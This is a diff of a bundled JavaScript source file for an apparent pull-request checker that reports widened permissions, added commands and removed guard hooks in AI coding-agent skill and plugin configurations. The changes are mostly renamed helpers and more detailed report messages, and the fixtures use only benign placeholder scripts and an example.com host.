@@ -77,11 +77,11 @@ function nameOf$3(path) {
 function join$1(folder, name) {
 	return folder === "" ? name : `${folder}/${name}`;
 }
-function isInside$1(path, folder) {
+function isInside$2(path, folder) {
 	return folder === "" || path.startsWith(`${folder}/`);
 }
 function isAtOrInside(path, ancestor) {
-	return path === ancestor || isInside$1(path, ancestor);
+	return path === ancestor || isInside$2(path, ancestor);
 }
 function relativePath$2(folder, path) {
 	return folder === "" ? path : path.slice(folder.length + 1);
@@ -530,7 +530,7 @@ function groupBy(values, keyOf) {
 function reportedChanges({ powers, findings }) {
 	if (powers.length === 0) return [];
 	const tools = toolFindings(findings);
-	const free = groupBy(findings.filter(({ category }) => category === "privilege"), ({ about, at }) => keyOf$10(about, at.path));
+	const free = groupBy(findings.filter(({ category }) => category === "privilege"), ({ about, at }) => keyOf$11(about, at.path));
 	return powers.flatMap((change) => {
 		const { power } = change;
 		if (isAllowedTool(change)) {
@@ -550,11 +550,11 @@ function reportedChanges({ powers, findings }) {
 		}];
 		return [{
 			change,
-			finding: free.get(keyOf$10(aboutPower(power), power.at.path))?.shift() ?? null
+			finding: free.get(keyOf$11(aboutPower(power), power.at.path))?.shift() ?? null
 		}];
 	});
 }
-function keyOf$10(about, path) {
+function keyOf$11(about, path) {
 	return `${about}\0${path}`;
 }
 function isAllowedTool({ power }) {
@@ -1741,7 +1741,7 @@ function featureVerb(power) {
 	if (feature === "source") return `takes ${subject} from`;
 	if (feature === "setting" && kind === "net") return "lets commands of the sandbox reach";
 	if (kind === "guard") return guardVerb(power);
-	if (feature === "mcp-server" && kind === "mcp") return `starts the MCP ${subject.replace(/^server (.+?)(?= of plugin |$)/, "server \"$1\"")}:`;
+	if (feature === "mcp-server" && kind === "mcp") return `${/^(?:https?|wss?):/.test(power.scope) ? "connects to" : "starts"} the MCP ${subject.replace(/^server (.+?)(?= of plugin |$)/, "server \"$1\"")}:`;
 	return feature === "agent-tools" && kind === "delegate" ? "may use" : null;
 }
 function guardVerb({ feature, subject, trigger }) {
@@ -1800,7 +1800,7 @@ const starts = {
 	install: "at every installation or update"
 };
 function triggerWords(trigger, unit) {
-	return `${startWords(trigger, unit)}${conditionWords(trigger)}`;
+	return `${startWords$1(trigger, unit)}${conditionWords(trigger)}`;
 }
 function conditionWords({ condition, once }) {
 	return `${condition === void 0 ? "" : ` if ${condition}`}${once ? ", once a session" : ""}`;
@@ -1827,7 +1827,7 @@ const runningUnits = new Set([
 	"agent",
 	"command"
 ]);
-function startWords({ start, event = "", matcher }, unit) {
+function startWords$1({ start, event = "", matcher }, unit) {
 	if (start === "enabled") return unit === "plugin" ? "while the plugin is enabled" : "when a client opens the repository";
 	if (start === "turn" && event === "" && !matcher && runningUnits.has(unit)) return `while the ${unit} runs`;
 	const names = matcher ? matcherWords(matcher) : "";
@@ -2216,7 +2216,7 @@ const commandNames = {
 };
 function annotationsOf(report, findings) {
 	const roots = new Set(report.skills.filter(isChanged).map(({ root }) => root));
-	const isTouched = ({ skill, at }) => skill !== null && roots.has(skill) && isInside$1(at.path, skill);
+	const isTouched = ({ skill, at }) => skill !== null && roots.has(skill) && isInside$2(at.path, skill);
 	const keyOf = ({ at, rule, severity }) => [
 		at.path,
 		rule,
@@ -2867,7 +2867,7 @@ function mergeLinks(groups) {
 		return plural === null ? [] : [{
 			group,
 			plural,
-			key: keyOf$9(group, plural)
+			key: keyOf$10(group, plural)
 		}];
 	});
 	const merged = new Map();
@@ -2884,7 +2884,7 @@ function pluralOf({ first, message, members }) {
 	if (members.length < 2 || first.rule !== "link-target") return null;
 	return predicates.find(([singular]) => message === `Link ${code$1(first.about)} ${singular}.`)?.[1] ?? null;
 }
-function keyOf$9({ first, members }, plural) {
+function keyOf$10({ first, members }, plural) {
 	const { severity, state, fix } = first;
 	const places = new Set(members.map(({ finding }) => placeText(finding.at)));
 	return JSON.stringify([
@@ -2935,7 +2935,7 @@ const minAlike$1 = 4;
 function groupFindings(findings, skills) {
 	if (findings.length < minAlike$1) return findings.map(ungrouped);
 	const skillsByRoot = new Map(skills.map((skill) => [skill.root, skill]));
-	const keys = new Map(findings.map((finding) => [finding, keyOf$8(finding, skillsByRoot)]));
+	const keys = new Map(findings.map((finding) => [finding, keyOf$9(finding, skillsByRoot)]));
 	const groups = groupBy(findings, (finding) => keys.get(finding));
 	return mergeLinks(findings.flatMap((finding) => {
 		const group = groups.get(keys.get(finding)) ?? [];
@@ -2994,7 +2994,7 @@ function ownerOf$2({ skill: root, at }, skills) {
 	return skills.get(root)?.name ?? root;
 }
 const knownKeys$6 = new WeakMap();
-function keyOf$8(finding, skills) {
+function keyOf$9(finding, skills) {
 	const skill = finding.skill === null ? void 0 : skills.get(finding.skill);
 	const known = knownKeys$6.get(finding);
 	if (known && known.skill === skill) return known.text;
@@ -3119,7 +3119,7 @@ function formatPlace(at, pageOptions, { root, path }) {
 }
 function shortPlace$1(at, root, path) {
 	if (at.path === path && at.range) return `:${at.range.start.line}`;
-	return placeText(root && isInside$1(at.path, root) ? {
+	return placeText(root && isInside$2(at.path, root) ? {
 		path: at.path.slice(root.length + 1),
 		range: at.range
 	} : at);
@@ -4756,7 +4756,7 @@ function outerLink(address, ...children) {
 }
 function shortPlace({ path, range }, folder) {
 	const line = range ? `:${range.start.line}` : "";
-	return `${folder !== null && folder !== "" && isInside$1(path, folder) ? path.slice(folder.length + 1) : path}${line}`;
+	return `${folder !== null && folder !== "" && isInside$2(path, folder) ? path.slice(folder.length + 1) : path}${line}`;
 }
 // src/model/declared-power.ts
 const declaredKinds = [
@@ -10148,7 +10148,7 @@ var Reader$3 = class {
 		return items(get(value, "deployed_files")).flatMap((item) => {
 			const path = source(item) ?? "";
 			return isAbsolute$4(path) ? [] : resolve$1(this.#folder, path) ?? [];
-		}).filter((path) => pins.some(({ file }) => file !== void 0 && file !== path && isInside$1(file, path)));
+		}).filter((path) => pins.some(({ file }) => file !== void 0 && file !== path && isInside$2(file, path)));
 	}
 	ownEntries(root) {
 		const field = root.kind === "table" ? root.fields.get(ownHashesField) : void 0;
@@ -10946,6 +10946,7 @@ function combine$1(...parts) {
 		grants: parts.flatMap(({ grants = [] }) => grants),
 		faults: parts.flatMap(({ faults = [] }) => faults),
 		unread: parts.flatMap(({ unread = [] }) => unread),
+		invocationKeys: parts.flatMap(({ invocationKeys = [] }) => invocationKeys),
 		name: parts.find(({ name }) => name !== void 0)?.name,
 		version: parts.find(({ version }) => version !== void 0)?.version,
 		plugins: parts.flatMap(({ plugins = [] }) => plugins),
@@ -16821,6 +16822,85 @@ function readApps(value, root) {
 	const target = resolve$1(root, path);
 	return target === void 0 ? {} : { follow: new Map([[target, "codex-apps"]]) };
 }
+// src/powers/markdown/invocations.ts
+function readInvocations(frontmatter, { path, unit }) {
+	const disable = frontmatter?.fields.get("disable-model-invocation");
+	const invocable = frontmatter?.fields.get("user-invocable");
+	const disabled = disable && readFlag(disable);
+	const userInvocable = invocable && readFlag(invocable);
+	const paths = readPaths(frontmatter, unit.kind === "command");
+	const top = frontmatter?.fields.get("name")?.keyAt ?? fields$1(frontmatter ?? void 0)[0]?.keyAt ?? { path };
+	const byModel = invocation$1("model", {
+		start: "model",
+		matcher: paths.matcher
+	}, disable?.value.at ?? top);
+	const byUser = invocation$1("user", { start: "typed" }, invocable?.value.at ?? top);
+	const isUnreachable = disabled?.value === true && userInvocable?.value === false;
+	const message = `Neither the model nor the user may start the ${unit.kind}; clients never load it.`;
+	return {
+		invocationKeys: [...disable ? [invocationKey("model", disable)] : [], ...invocable ? [invocationKey("user", invocable)] : []],
+		grants: [...disabled?.value === true ? [] : [byModel], ...userInvocable?.value === false ? [] : [byUser]],
+		faults: [
+			...disabled?.faults ?? [],
+			...userInvocable?.faults ?? [],
+			...paths.faults,
+			...isUnreachable ? [grantFault(message, invocable?.keyAt ?? top)] : []
+		]
+	};
+}
+function invocationKey(subject, { key, keyAt, value }) {
+	return {
+		subject,
+		text: `${key}: ${source(value) ?? ""}`,
+		at: keyAt
+	};
+}
+function invocation$1(subject, trigger, at) {
+	return {
+		kind: "auto",
+		feature: "invocation",
+		scope: subject,
+		reach: "one",
+		subject,
+		trigger,
+		at,
+		isDefault: true
+	};
+}
+function readPaths(frontmatter, isIgnored) {
+	const field = frontmatter?.fields.get("paths");
+	if (!field || field.value.kind === "null") return { faults: [] };
+	if (isIgnored) return { faults: [grantFault("\"paths\" has no effect on a command: the model may start it for any file.", field.keyAt)] };
+	const globs = globsOf$1(field.value);
+	if (!globs) return { faults: [wrongType("paths", field.value, {
+		expected: "a string or a list of strings",
+		consequence: "clients do not limit the skill to these files"
+	})] };
+	if (!(globs.length > 0 && !globs.some((glob) => /^\*\*(?:\/\*{1,2})?$/.test(glob)))) return { faults: [] };
+	return {
+		matcher: {
+			text: globs.join(", "),
+			names: globs,
+			areGlobs: true
+		},
+		faults: []
+	};
+}
+function globsOf$1(value) {
+	const globs = stringsOf(value)?.flatMap(({ text }) => splitOutsideBraces(text)).map((glob) => glob.trim()).filter((glob) => glob !== "");
+	return globs ? [...new Set(globs)].sort() : null;
+}
+function splitOutsideBraces(text) {
+	const parts = [""];
+	let depth = 0;
+	for (const character of text) {
+		if (character === "{") depth++;
+		if (character === "}") depth = Math.max(depth - 1, 0);
+		if (character === "," && depth === 0) parts.push("");
+		else parts[parts.length - 1] += character;
+	}
+	return parts;
+}
 // src/powers/carriers/codex-skill.ts
 const known$8 = new Set([
 	"interface",
@@ -16872,7 +16952,7 @@ const codexSkill = {
 			faults: readable
 		});
 		const policy = get(root, "policy");
-		return combine$1(invocation$1(policy, path), { unread: unreadFields(policy, silentPolicies, "policy.") }, ...items(get(get(root, "dependencies"), "tools")).map(readTool), { unread: unreadFields(root, known$8) });
+		return combine$1(invocation(policy, path), { invocationKeys: invocationKeys(policy) }, { unread: unreadFields(policy, silentPolicies, "policy.") }, ...items(get(get(root, "dependencies"), "tools")).map(readTool), { unread: unreadFields(root, known$8) });
 	},
 	examples: [{
 		kind: "auto",
@@ -16919,7 +16999,7 @@ function byModel(at) {
 		at
 	};
 }
-function invocation$1(policy, path) {
+function invocation(policy, path) {
 	const allow = get(policy, "allow_implicit_invocation");
 	if (!allow) return { grants: [byModel({ path })] };
 	const isAllowed = flag$1(allow);
@@ -16933,6 +17013,9 @@ function invocation$1(policy, path) {
 		grants: [byModel(allow.at)],
 		faults: [fault]
 	};
+}
+function invocationKeys(policy) {
+	return fields$1(policy).filter(({ key }) => key === "allow_implicit_invocation").map((field) => invocationKey("Codex", field));
 }
 const toolKeys$1 = new Set([...[
 	"type",
@@ -17159,8 +17242,10 @@ function invocations(frontmatter, top) {
 	const disabled = flags.get("disable-model-invocation");
 	const infer = flags.get("infer");
 	const isOff = disabled?.value === true || !disabled && infer?.value === false;
+	const [modelField, userField] = [disabled ? "disable-model-invocation" : "infer", "user-invocable"].map((key) => frontmatter.fields.get(key));
 	const isHidden = flags.get("user-invocable")?.value === false;
 	return {
+		invocationKeys: [...modelField ? [invocationKey("model", modelField)] : [], ...userField ? [invocationKey("user", userField)] : []],
 		grants: [...isOff ? [] : [grant("model", disabled?.at ?? infer?.at ?? top)], ...isHidden ? [] : [grant("user", flags.get("user-invocable")?.at ?? top)]],
 		faults: [...flags.values()].flatMap((flag) => flag?.faults ?? [])
 	};
@@ -19168,149 +19253,6 @@ const file$1 = "skills/s/SKILL.md";
 function skill$3(lines) {
 	return { [file$1]: `---\nname: s\ndescription: Does it.\n${lines}---\nText.\n` };
 }
-const skillExamples = [
-	{
-		kind: "auto",
-		scope: "model",
-		granting: skill$3(""),
-		without: skill$3("disable-model-invocation: true\n"),
-		equivalents: [skill$3("disable-model-invocation: false\n"), skill$3("user-invocable: true\n")]
-	},
-	{
-		kind: "auto",
-		scope: "user",
-		granting: skill$3("user-invocable: true\n"),
-		without: skill$3("user-invocable: false\n"),
-		equivalents: [skill$3(""), skill$3("user-invocable: yes\n")]
-	},
-	{
-		kind: "auto",
-		scope: "model",
-		granting: skill$3(""),
-		without: skill$3("paths: \"src/**\"\n"),
-		equivalents: []
-	},
-	{
-		kind: "approve",
-		scope: "Bash(git *)",
-		granting: skill$3("allowed-tools: Bash(git:*), Read\n"),
-		without: skill$3("allowed-tools: Read\n"),
-		equivalents: [skill$3("allowed-tools: [Read, \"Bash(git *)\"]\n")]
-	},
-	{
-		kind: "approve",
-		scope: "Bash",
-		granting: { ".claude/commands/c.md": "---\ndescription: Does it.\nallowed-tools: Bash(*)\n---\nText.\n" },
-		without: { ".claude/commands/c.md": "---\ndescription: Does it.\n---\nText.\n" },
-		equivalents: [{ ".claude/commands/c.md": "---\nallowed-tools: \"Bash\"\ndescription: Does it.\n---\nText.\n" }]
-	},
-	{
-		kind: "guard",
-		scope: "Write",
-		granting: skill$3("disallowed-tools: Write Edit\n"),
-		without: skill$3("disallowed-tools: Edit\n"),
-		equivalents: [skill$3("disallowed-tools: [Edit, Write]\n")]
-	},
-	{
-		kind: "run",
-		scope: "./check.sh",
-		granting: skill$3("hooks:\n  Stop:\n    - hooks:\n        - type: command\n          command: ./check.sh\n"),
-		without: skill$3("hooks:\n  Stop:\n    - hooks:\n        - {type: command, command: ./check.sh, once: true}\n"),
-		equivalents: [skill$3("hooks: {Stop: [{hooks: [{command: ./check.sh, type: command}]}]}\n")]
-	},
-	{
-		kind: "delegate",
-		scope: "deployer",
-		granting: skill$3("context: fork\nagent: deployer\n"),
-		without: skill$3("agent: deployer\n"),
-		equivalents: [skill$3("agent: \"deployer\"\ncontext: 'fork'\n")]
-	},
-	{
-		kind: "guard",
-		scope: "background",
-		granting: skill$3("context: fork\nbackground: false\n"),
-		without: skill$3("context: fork\nbackground: true\n"),
-		equivalents: [skill$3("background: off\ncontext: \"fork\"\n")]
-	},
-	{
-		kind: "auto",
-		scope: "model",
-		granting: skill$3("paths: \"src/**, docs/*.{ts,js}\"\n"),
-		without: skill$3("paths: [\"src/lib/**\", \"docs/*.{ts,js}\"]\n"),
-		equivalents: [skill$3("paths: [\"docs/*.{ts,js}\", \"src/**\"]\n")]
-	}
-];
-// src/powers/markdown/invocations.ts
-function readInvocations(frontmatter, { path, unit }) {
-	const disable = frontmatter?.fields.get("disable-model-invocation");
-	const invocable = frontmatter?.fields.get("user-invocable");
-	const disabled = disable && readFlag(disable);
-	const userInvocable = invocable && readFlag(invocable);
-	const paths = readPaths(frontmatter, unit.kind === "command");
-	const top = frontmatter?.fields.get("name")?.keyAt ?? fields$1(frontmatter ?? void 0)[0]?.keyAt ?? { path };
-	const byModel = invocation("model", {
-		start: "model",
-		matcher: paths.matcher
-	}, disable?.value.at ?? top);
-	const byUser = invocation("user", { start: "typed" }, invocable?.value.at ?? top);
-	const isUnreachable = disabled?.value === true && userInvocable?.value === false;
-	const message = `Neither the model nor the user may start the ${unit.kind}; clients never load it.`;
-	return {
-		grants: [...disabled?.value === true ? [] : [byModel], ...userInvocable?.value === false ? [] : [byUser]],
-		faults: [
-			...disabled?.faults ?? [],
-			...userInvocable?.faults ?? [],
-			...paths.faults,
-			...isUnreachable ? [grantFault(message, invocable?.keyAt ?? top)] : []
-		]
-	};
-}
-function invocation(subject, trigger, at) {
-	return {
-		kind: "auto",
-		feature: "invocation",
-		scope: subject,
-		reach: "one",
-		subject,
-		trigger,
-		at,
-		isDefault: true
-	};
-}
-function readPaths(frontmatter, isIgnored) {
-	const field = frontmatter?.fields.get("paths");
-	if (!field || field.value.kind === "null") return { faults: [] };
-	if (isIgnored) return { faults: [grantFault("\"paths\" has no effect on a command: the model may start it for any file.", field.keyAt)] };
-	const globs = globsOf$1(field.value);
-	if (!globs) return { faults: [wrongType("paths", field.value, {
-		expected: "a string or a list of strings",
-		consequence: "clients do not limit the skill to these files"
-	})] };
-	if (!(globs.length > 0 && !globs.some((glob) => /^\*\*(?:\/\*{1,2})?$/.test(glob)))) return { faults: [] };
-	return {
-		matcher: {
-			text: globs.join(", "),
-			names: globs,
-			areGlobs: true
-		},
-		faults: []
-	};
-}
-function globsOf$1(value) {
-	const globs = stringsOf(value)?.flatMap(({ text }) => splitOutsideBraces(text)).map((glob) => glob.trim()).filter((glob) => glob !== "");
-	return globs ? [...new Set(globs)].sort() : null;
-}
-function splitOutsideBraces(text) {
-	const parts = [""];
-	let depth = 0;
-	for (const character of text) {
-		if (character === "{") depth++;
-		if (character === "}") depth = Math.max(depth - 1, 0);
-		if (character === "," && depth === 0) parts.push("");
-		else parts[parts.length - 1] += character;
-	}
-	return parts;
-}
 // src/powers/carriers/skill-frontmatter.ts
 const skillFrontmatter = {
 	id: "skill-frontmatter",
@@ -19389,7 +19331,78 @@ const skillFrontmatter = {
 			shell
 		}) }, { unread: unit.kind === "skill" || !frontmatter ? [] : unreadFields(frontmatter, commandKeys$2) });
 	},
-	examples: skillExamples
+	examples: [
+		{
+			kind: "auto",
+			scope: "model",
+			granting: skill$3(""),
+			without: skill$3("disable-model-invocation: true\n"),
+			equivalents: [skill$3("disable-model-invocation: false\n"), skill$3("user-invocable: true\n")]
+		},
+		{
+			kind: "auto",
+			scope: "user",
+			granting: skill$3("user-invocable: true\n"),
+			without: skill$3("user-invocable: false\n"),
+			equivalents: [skill$3(""), skill$3("user-invocable: yes\n")]
+		},
+		{
+			kind: "auto",
+			scope: "model",
+			granting: skill$3(""),
+			without: skill$3("paths: \"src/**\"\n"),
+			equivalents: []
+		},
+		{
+			kind: "approve",
+			scope: "Bash(git *)",
+			granting: skill$3("allowed-tools: Bash(git:*), Read\n"),
+			without: skill$3("allowed-tools: Read\n"),
+			equivalents: [skill$3("allowed-tools: [Read, \"Bash(git *)\"]\n")]
+		},
+		{
+			kind: "approve",
+			scope: "Bash",
+			granting: { ".claude/commands/c.md": "---\ndescription: Does it.\nallowed-tools: Bash(*)\n---\nText.\n" },
+			without: { ".claude/commands/c.md": "---\ndescription: Does it.\n---\nText.\n" },
+			equivalents: [{ ".claude/commands/c.md": "---\nallowed-tools: \"Bash\"\ndescription: Does it.\n---\nText.\n" }]
+		},
+		{
+			kind: "guard",
+			scope: "Write",
+			granting: skill$3("disallowed-tools: Write Edit\n"),
+			without: skill$3("disallowed-tools: Edit\n"),
+			equivalents: [skill$3("disallowed-tools: [Edit, Write]\n")]
+		},
+		{
+			kind: "run",
+			scope: "./check.sh",
+			granting: skill$3("hooks:\n  Stop:\n    - hooks:\n        - type: command\n          command: ./check.sh\n"),
+			without: skill$3("hooks:\n  Stop:\n    - hooks:\n        - {type: command, command: ./check.sh, once: true}\n"),
+			equivalents: [skill$3("hooks: {Stop: [{hooks: [{command: ./check.sh, type: command}]}]}\n")]
+		},
+		{
+			kind: "delegate",
+			scope: "deployer",
+			granting: skill$3("context: fork\nagent: deployer\n"),
+			without: skill$3("agent: deployer\n"),
+			equivalents: [skill$3("agent: \"deployer\"\ncontext: 'fork'\n")]
+		},
+		{
+			kind: "guard",
+			scope: "background",
+			granting: skill$3("context: fork\nbackground: false\n"),
+			without: skill$3("context: fork\nbackground: true\n"),
+			equivalents: [skill$3("background: off\ncontext: \"fork\"\n")]
+		},
+		{
+			kind: "auto",
+			scope: "model",
+			granting: skill$3("paths: \"src/**, docs/*.{ts,js}\"\n"),
+			without: skill$3("paths: [\"src/lib/**\", \"docs/*.{ts,js}\"]\n"),
+			equivalents: [skill$3("paths: [\"docs/*.{ts,js}\", \"src/**\"]\n")]
+		}
+	]
 };
 const duringTurn = { start: "turn" };
 function tools(frontmatter, unit) {
@@ -22927,7 +22940,7 @@ function unverifiedSets(files) {
 	folders.delete("");
 	return [...[...folders].map((folder) => ({
 		label: `${folder}/`,
-		names: names.filter((name) => isInside$1(name, folder))
+		names: names.filter((name) => isInside$2(name, folder))
 	})), ...names.map((name) => ({
 		label: name,
 		names: [name]
@@ -23677,7 +23690,7 @@ function* checkNewFiles(subject, alreadyReported) {
 }
 function nestedTargets({ root }, targets) {
 	return targets.flatMap((target) => {
-		const pins = target.pins.filter(({ file }) => file !== void 0 && isInside$1(file, root));
+		const pins = target.pins.filter(({ file }) => file !== void 0 && isInside$2(file, root));
 		return target.skill?.root === root || pins.length === 0 ? [] : [{
 			...target,
 			pins
@@ -30615,13 +30628,13 @@ function cachedPresence(paths) {
 }
 // src/rules/support/skill-files.ts
 function hasFile(skill, path) {
-	return skill.files.some(({ name }) => name === path) || opaquePaths(skill).some((name) => isInside$1(path, name));
+	return skill.files.some(({ name }) => name === path) || opaquePaths(skill).some((name) => isInside$2(path, name));
 }
 function hasFilesIn(skill, folder) {
-	return skill.files.some(({ name }) => isInside$1(name, folder)) || opaquePaths(skill).some((name) => isInside$1(`${folder}/`, name));
+	return skill.files.some(({ name }) => isInside$2(name, folder)) || opaquePaths(skill).some((name) => isInside$2(`${folder}/`, name));
 }
 function hasLinkTo(skill, folder) {
-	return opaquePaths(skill).some((name) => isInside$1(name, folder) || isInside$1(`${folder}/`, name));
+	return opaquePaths(skill).some((name) => isInside$2(name, folder) || isInside$2(`${folder}/`, name));
 }
 function opaquePaths(skill) {
 	const links = skill.files.filter(({ kind }) => kind === "symlink");
@@ -31634,6 +31647,16 @@ function pinAdvice({ power }) {
 	if (level !== "mutable" && level !== "range") return "";
 	return ` Its code can change without a change here: pin ${/^marketplace /.test(power.subject) ? "a tag or commit as \"ref\"" : "an exact version or a commit"}.`;
 }
+function unitPhrase(power) {
+	return ownerOf$1(power).replace(/^The/, "the");
+}
+function codeInOneLine(text) {
+	return code$1(truncate(inOneLine(text), maxShownScope));
+}
+function remarkSuffix(power) {
+	const { remarks } = powerWords(power);
+	return remarks.length === 0 ? "" : ` (${remarks.join(", ")})`;
+}
 function ownerOf$1({ unit }) {
 	if (unit.kind === "repository") return unit.root === "" ? "The repository" : `The folder "${truncate(unit.root, 60)}"`;
 	return `The ${unit.kind} "${truncate(unit.name, 60)}"`;
@@ -31647,10 +31670,37 @@ const agentToolsWidened = powerRule({
 	source: "Claude Code documentation, sub-agents.",
 	howToFix: "Keep the change if the agent needs the tools; list them one by one.",
 	claims: ({ power }) => ["agent-tools", "delegation"].includes(power.feature) && power.kind !== "guard",
-	message: gainMessage,
+	message: agentMessage,
 	invalid: skill$2("before/", "\nagent: Explore") + skill$2("after/", "\nagent: general-purpose"),
 	valid: skill$2("before/", "\nagent: Explore") + skill$2("after/", "\nagent: 'Explore'")
 });
+function agentMessage(change) {
+	const { power, previous, isSameCommand } = change;
+	const owner = ownerOf$1(power);
+	const scope = codeInOneLine(power.scope);
+	const key = `${power.feature} ${power.subject}`;
+	if (isSameCommand) return gainMessage(change);
+	if (key === "agent-tools tools" && power.reach === "any") {
+		const before = previous ? `; at base only ${codeInOneLine(previous.scope)}` : "";
+		return `${owner} may now use any tool, because ${code$1("tools")} no longer limits it${before}.`;
+	}
+	if (key === "agent-tools tools" && !previous) return `${owner} may now use ${scope}${remarkSuffix(power)}, which it may not use at base.`;
+	if (key === "agent-tools memory") return `${owner} now keeps notes between its runs in ${scope} (${code$1("memory")}).`;
+	if (key === "delegation agent" && ["skill", "command"].includes(power.unit.kind)) {
+		const before = previous ? `by ${agentWords(previous.scope)}` : "in the conversation";
+		return `${owner} is now run by ${agentWords(power.scope)}; at base ${before}.`;
+	}
+	return gainMessage(change);
+}
+const knownAgents = new Map([
+	["general-purpose", "which may use any tool"],
+	["Explore", "which may not edit files"],
+	["Plan", "which may not edit files"]
+]);
+function agentWords(name) {
+	const tools = knownAgents.get(name) ?? "which has tools of its own";
+	return `the agent ${codeInOneLine(name)}, ${tools}`;
+}
 // src/rules/examples/plugin.ts
 const manifest = "-- p/.claude-plugin/plugin.json --\n{\"name\": \"p\", \"version\": \"1.0.0\"}\n";
 function pluginFile(path, before, after) {
@@ -31695,10 +31745,42 @@ const backgroundCommandAdded = powerRule({
 	source: "Claude Code documentation, plugins reference.",
 	howToFix: "Read the command. Keep it if users are to run it; otherwise remove it.",
 	claims: ({ power }) => power.kind === "run" && ["helper-command", "background-program"].includes(power.feature),
-	message: gainMessage,
+	message: commandMessage,
 	invalid: pluginFile(".mcp.json", server("d", "{\"type\": \"http\", \"url\": \"https://d.example\"}"), server("d", "{\"type\": \"http\", \"url\": \"https://d.example\", \"headersHelper\": \"./sign.sh\"}")),
 	valid: pluginFile(".mcp.json", server("d", "{\"type\": \"http\", \"url\": \"https://d.example\", \"headersHelper\": \"./sign.sh\"}"), server("d", "{\"type\": \"http\", \"headersHelper\": \"./sign.sh\", \"url\": \"https://d.example\"}"))
 });
+function commandMessage(change) {
+	const { power, previous, isSameCommand } = change;
+	const isPath = power.subject.startsWith("bin/") || power.subject === power.scope;
+	if (isSameCommand || isPath || power.reach === "unknown") return gainMessage(change);
+	const { remark, ...rest } = power;
+	const isNamed = remark !== void 0 && power.subject.includes(remark);
+	const shown = `${codeInOneLine(power.scope)}${remarkSuffix(isNamed ? rest : power)}`;
+	const before = previous ? `; at base ${codeInOneLine(previous.scope)}` : "";
+	const when = momentOf(power);
+	return `${ownerOf$1(power)} now runs ${shown} as ${keyOf$8(power)}${when === "" ? "" : ` ${when}`}${before}.`;
+}
+function keyOf$8({ subject, feature, trigger }) {
+	const [, kind = "", name = ""] = /^(server|monitor|language server|plugin) (.*?)(?: of plugin .*)?$/s.exec(subject) ?? [];
+	if (kind === "server") return `${code$1("headersHelper")} of the MCP server ${quote(name)}`;
+	if (kind === "plugin") return `the source of the plugin ${quote(name)}`;
+	if (kind !== "") return `the ${kind} ${quote(name)}`;
+	return code$1(feature === "helper-command" && trigger.start === "install" ? `lifecycle.${subject}` : subject);
+}
+const moments = new Map([
+	["apiKeyHelper", "each time Claude Code needs a key"],
+	["awsAuthRefresh", "each time Claude Code needs credentials of AWS"],
+	["awsCredentialExport", "each time Claude Code needs credentials of AWS"],
+	["gcpAuthRefresh", "each time Claude Code needs credentials of Google Cloud"],
+	["otelHeadersHelper", "each time Claude Code needs headers for telemetry"],
+	["statusLine", "each time the status line is drawn"],
+	["subagentStatusLine", "each time the status line of an agent is drawn"],
+	["fileSuggestion", "each time Claude Code suggests files"]
+]);
+function momentOf({ subject, feature, trigger, unit }) {
+	if (feature === "helper-command" && subject.startsWith("server ")) return "at each connection to it";
+	return moments.get(subject) ?? triggerWords(trigger, unit.kind);
+}
 // src/rules/power/dynamic-command-added.ts
 const dynamicCommandAdded = powerRule({
 	id: "dynamic-command-added",
@@ -31719,17 +31801,48 @@ const guardRemoved = powerRule({
 	source: "Claude Code documentation, hooks.",
 	howToFix: "Restore the limit, or say in the pull request why it is not needed any more.",
 	claims: ({ power }) => power.kind === "guard",
-	message: ({ power, change, previous }) => {
+	message: ({ power, change, previous, hooks }) => {
 		const limit = describePower(power);
 		if (previous) return `${ownerOf$1(power)} now ${limit}; at base it ${describePower(previous)}. Which of them limits more cannot be decided.`;
-		if (change === "lost" && power.feature === "hook") return hookMessage(power);
-		return change === "lost" ? `${ownerOf$1(power)} no longer ${limit}.` : `${ownerOf$1(power)} ${limit} at base; whether it still does cannot be decided.`;
+		if (change !== "lost") return `${ownerOf$1(power)} ${limit} at base; whether it still does cannot be decided.`;
+		if (power.feature === "hook") return hookMessage$1(power, hooks);
+		return lostMessage(power, limit);
 	},
 	invalid: pluginFile("hooks/hooks.json", hookAt("PreToolUse", "./deny.sh"), hookAt("PreToolUse", "./deny.sh", ", \"async\": true")),
 	valid: pluginFile("hooks/hooks.json", hookAt("PreToolUse", "./deny.sh", ", \"async\": true"), hookAt("PreToolUse", "./deny.sh"))
 });
-function hookMessage(power) {
-	return `A hook of ${ownerOf$1(power).replace(/^The/, "the")} can no longer block ${blockedWords(power.trigger)}: it was removed, limited to fewer calls, or made asynchronous. Restore it if it is a guard.`;
+function lostMessage(power, limit) {
+	const { feature, subject, scope, trigger, remark } = power;
+	if (feature === "permission-rule" && subject === "permissions") {
+		const list = trigger.condition === void 0 ? "deny" : "ask";
+		return `${ownerOf$1(power)} no longer ${limit}: the rule was removed from ${code$1(`permissions.${list}`)}.`;
+	}
+	if (feature === "setting" || feature === "permission-mode") return `${ownerOf$1(power)} no longer ${limit}.`;
+	const key = scope.includes(subject) || scope.startsWith(`${subject}:`) ? "" : ` (${code$1(subject)})`;
+	return `${ownerOf$1(power)} no longer has the limit ${codeInOneLine(scope)}${key}${remark === void 0 ? "" : `: at base, ${remark}`}.`;
+}
+function hookMessage$1(power, { base, head } = {
+	base: [],
+	head: []
+}) {
+	const subject = `A ${code$1(power.subject)} hook of ${unitPhrase(power)} can no longer block ${blockedWords(power.trigger)}`;
+	const commands = base.filter((other) => other.kind === "run" && isInside$1(other.at, power.at));
+	const [command] = commands;
+	if (!command || commands.length > 1) return `${subject}. Restore the hook if its check is needed.`;
+	const kept = head.filter(({ kind, scope }) => kind === "run" && scope === command.scope);
+	const line = codeInOneLine(command.scope);
+	if (kept.length === 0) return `${subject}: ${line} was removed. Restore it if its check is needed.`;
+	const matcher = canonicalMatcher(command);
+	if (kept.some((other) => canonicalMatcher(other) === matcher)) return `${subject}: ${line} now runs asynchronously (${code$1("async")} or ${code$1("asyncRewake")}), so calls do not wait for it. Remove the key if its check is needed.`;
+	return `${subject}: ${line} now runs only before ${kept.map(({ trigger }) => blockedWords(trigger)).join(", ")}. Restore the matcher if its check is needed.`;
+}
+function canonicalMatcher({ trigger: { matcher } }) {
+	return matcher?.names?.join("|") ?? matcher?.text ?? "";
+}
+function isInside$1({ path, range }, outer) {
+	if (path !== outer.path || !range || !outer.range) return false;
+	const isBefore = (a, b) => a.line < b.line || a.line === b.line && a.column <= b.column;
+	return isBefore(outer.range.start, range.start) && isBefore(range.end, outer.range.end);
 }
 // src/rules/power/hook-added.ts
 const hookAdded = powerRule({
@@ -31739,10 +31852,19 @@ const hookAdded = powerRule({
 	source: "Claude Code documentation, hooks.",
